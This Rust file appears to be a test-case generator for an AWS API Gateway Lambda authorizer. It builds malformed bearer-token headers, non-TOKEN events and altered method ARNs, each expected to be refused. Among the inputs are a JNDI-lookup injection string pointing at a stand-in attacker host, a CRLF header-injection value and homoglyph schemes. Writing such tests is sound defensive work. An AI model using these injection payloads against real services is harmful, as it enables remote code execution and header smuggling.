//! The header value around the token, and events that are not TOKEN events.

use okta_authorizer_testkit::{arn, event, keys};
use serde_json::{Value, json};

use crate::table::Rows;

pub fn the_header_value_is_one_bearer_token(rows: &mut Rows) {
    let good = rows.good();
    let prefixes = ["Bearer ", "bearer ", "BEARER ", "bEaReR  ", "Bearer       ", "BEARER   ", ""];
    let controls = prefixes.map(|prefix| format!("{prefix}{good}"));
    let mut controls = controls.iter().cycle();
    let mut row = |attack: String, reason: &str| {
        let name = attack.replace(&good, "JWT");
        rows.token("RFC 6750 §2.1; RFC 9110 §11.4", name, attack, reason, controls.next().unwrap());
    };
    for missing in ["", "Bearer", "bearer", "BEARER", "Bearer ", "Bearer    "] {
        row(missing.to_owned(), "missing_token");
    }
    let schemes = "Basic Token JWT DPoP Digest Negotiate AWS4-HMAC-SHA256 Bearer: Bearer, Bearer= Bear Bearers \"Bearer\" \
        Authorization: Bеarer Ｂearer Bearer\u{200b} \u{feff}Bearer \0Bearer";
    for scheme in schemes.split(' ').chain(["Bearer\t", "Bearer\n", ""]) {
        row(format!("{scheme} {good}"), "not_bearer");
    }
    for attack in [
        " ".to_owned(),
        format!(" Bearer {good}"),
        format!("\tBearer {good}"),
        format!("\nBearer {good}"),
        format!("\"Bearer {good}\""),
        format!("{good} "),
        format!("{good} {good}"),
        format!("{good} Bearer"),
        format!("{good}, Bearer {good}"),
    ] {
        row(attack, "not_bearer");
    }
    // Without a space it is all one token, which is bad base64 or has the wrong number of parts.
    for separator in [":", ",", "=", "\t", "\n", "\r\n", "\u{a0}", "\u{2003}", "\0", "+", "%20"] {
        row(format!("Bearer{separator}{good}"), "bad_base64 header");
    }
    row(format!("Bearer{good}"), "bad_json header");
    for prefix in ["\t", "\u{a0}", "Bearer ", "x ", "access_token="] {
        row(format!("Bearer {prefix}{good}"), "bad_base64 header");
    }
    for suffix in [" ", "  ", "\t", "\n", "\r\n", "\0", "\u{a0}", ",", ";", " x", "é", "\"", "=", "#", "?x"] {
        row(format!("Bearer {good}{suffix}"), "bad_signature");
    }
    row(format!("{good}\n"), "bad_signature");
    row(format!("Bearer \"{good}\""), "bad_base64 header");
    row(format!("Bearer <{good}>"), "bad_base64 header");
    for suffix in [" ", ",Bearer "] {
        row(format!("Bearer {good}{suffix}{good}"), "not_three_parts");
    }
    row(format!("Bearer {good}\r\nX-Other: 1.2"), "not_three_parts");
    for word in ["null", "undefined", "None", "[object Object]", "true", "{}", "-", "é", "\u{1f600}"] {
        row(format!("Bearer {word}"), "not_three_parts");
    }
    for word in ["null", "${jndi:ldap://evil.example/x}"] {
        row(word.to_owned(), "not_three_parts");
    }
}

pub fn only_token_events_are_accepted(rows: &mut Rows) {
    let (good, arn) = (rows.good(), arn("GET /apps"));
    let of = |kind: Value| json!({ "type": kind, "authorizationToken": good, "methodArn": arn });
    let with_token = |token: Value| json!({ "type": "TOKEN", "authorizationToken": token, "methodArn": arn });
    let token_event = of(json!("TOKEN")).to_string();
    let with = |members: &str| token_event.replacen('{', &format!("{{{members},"), 1);
    let nested = |open: &str, close: &str, depth: usize| format!("{}5{}", open.repeat(depth), close.repeat(depth));
    let controls = [
        token_event.clone(),
        format!(" \n{token_event}\t "),
        json!({ "authorizationToken": good, "methodArn": arn, "x": [{}] }).to_string(),
        with(r#""x":1,"x":2,"y":1e400,"z":"\ud800""#),
        with(&format!(r#""x":{}"#, nested("[", "]", 9_999))),
    ];
    let request = json!({
        "type": "REQUEST", "methodArn": arn, "resource": "/apps", "path": "/apps", "httpMethod": "GET",
        "headers": { "Authorization": format!("Bearer {good}") }, "identitySource": good,
    });
    let http_api = json!({
        "version": "2.0", "type": "REQUEST", "routeArn": arn, "identitySource": [good], "routeKey": "GET /apps",
        "headers": { "authorization": good },
    });
    let not_token_events = [
        request,
        http_api,
        of(json!("token")),
        of(json!("TOKEN ")),
        of(json!("")),
        of(json!(null)),
        of(json!(["TOKEN"])),
        of(json!({ "TOKEN": 1 })),
        of(json!(1)),
        json!([of(json!("TOKEN"))]),
        json!(["TOKEN", good, arn]),
        json!([good]),
        json!(good),
        json!("x"),
        json!(token_event),
        json!(null),
        json!(5),
        json!(-0.5),
        json!(true),
        json!([]),
    ];
    // If a field occurs twice (RFC 8259 §4), neither value is used.
    let broken = [
        with(r#""type":"TOKEN""#),
        with(r#""\u0074ype":"TOKEN""#),
        with(r#""authorizationToken":"Bearer x""#),
        with(r#""methodArn":null"#),
        r#"{"type":"TOKEN","authorizationToken":"\ud800","methodArn":"x"}"#.to_owned(),
        nested("[", "]", 100),
    ];
    let without_a_token = [
        json!({}),
        json!({ "source": "serverless-plugin-warmup" }),
        json!({ "Records": [{ "body": good }] }),
        json!({ "event": of(json!("TOKEN")) }),
        json!({ "version": "2.0", "routeArn": arn, "identitySource": [good] }),
        json!({ "x": "y".repeat(1_000_000) }),
        json!({ "type": "TOKEN" }),
        json!({ "type": "TOKEN", "methodArn": arn }),
        json!({ "type": "TOKEN", "AuthorizationToken": good, "methodArn": arn }),
        json!({ "type": "TOKEN", "authorization": good, "methodArn": arn }),
        json!({ "type": "TOKEN", "authorization_token": good, "methodArn": arn }),
        with_token(json!(null)),
        with_token(json!(5)),
        with_token(json!(true)),
        with_token(json!([good])),
        with_token(json!({ "token": good })),
        with_token(json!("")),
    ];
    let empty = [
        r#"{"type":"TOKEN","authorizationToken":"\u0042earer ","methodArn":"x"}"#.to_owned(),
        nested(r#"{"a":"#, "}", 100),
    ];
    let texts = |values: &[Value]| values.iter().map(Value::to_string).collect::<Vec<_>>();
    let not_token_events = texts(&not_token_events).into_iter().chain(broken).map(|event| (event, "not_a_token_event"));
    let without_a_token = texts(&without_a_token).into_iter().chain(empty).map(|event| (event, "missing_token"));
    for ((attack, reason), control) in not_token_events.chain(without_a_token).zip(controls.iter().cycle()) {
        let name = attack.replace(&good, "JWT");
        let source = "API Gateway developer guide, Input to an API Gateway Lambda authorizer";
        rows.event(source, name, attack, reason, control.clone());
    }
}

/// A good token for an unusable ARN is a fault; a bad token is refused.
pub fn an_unusable_method_arn_is_a_fault(rows: &mut Rows) {
    let good = rows.good();
    let forged = keys::attacker().named("main").token(&rows.claims());
    let arn = &arn("GET /apps");
    let changes = [
        ("arn", &["Arn", "ARN", "urn", " arn"][..]),
        ("aws", &["*", ""]),
        ("execute-api", &["*", "s3", "lambda"]),
        ("us-east-1", &["*", ""]),
        ("123456789012", &["*", ""]),
        ("abcdef1234", &["*", "abc*", ""]),
        ("prod", &["*", "pr?d", "prod ", "prод", "prod\n", "${stageVariables.x}", "${aws:username}", ""]),
        ("GET", &["*", "get", ""]),
        ("GET/apps", &["*", ""]),
        ("/GET/apps", &[""]),
        ("prod/GET/apps", &[""]),
        ("/prod/GET/apps", &[""]),
        ("abcdef1234/prod/GET/apps", &[""]),
        (":abcdef1234/prod/GET/apps", &[""]),
    ];
    let one_changed =
        changes.iter().flat_map(|(part, others)| others.iter().map(move |other| arn.replacen(part, other, 1)));
    let function = "arn:aws:lambda:us-east-1:123456789012:function/prod/GET/apps";
    let texts = ["", "*", "arn", "x", "GET /apps", "GET/apps", "/GET/apps", ":::::", function].map(str::to_owned);
    let values = [json!(null), json!(5), json!(["x"]), json!([arn]), json!({})];
    let values = one_changed.chain(texts).map(Value::from).chain(values).map(Some).chain([None]);
    for arn in values {
        for (token, reason) in
            [(&*good, "MethodArnUnusable"), ("Bearer x.y.z", "bad_base64 header"), (&forged, "bad_signature")]
        {
            let mut attack = json!({ "type": "TOKEN", "authorizationToken": token });
            if let Some(arn) = &arn {
                attack["methodArn"] = arn.clone();
            }
            let source = "Service authorization reference, Resource types defined by Amazon API Gateway";
            rows.event(source, format!("{arn:?}, {reason}"), attack.to_string(), reason, event(&good));
        }
    }
}
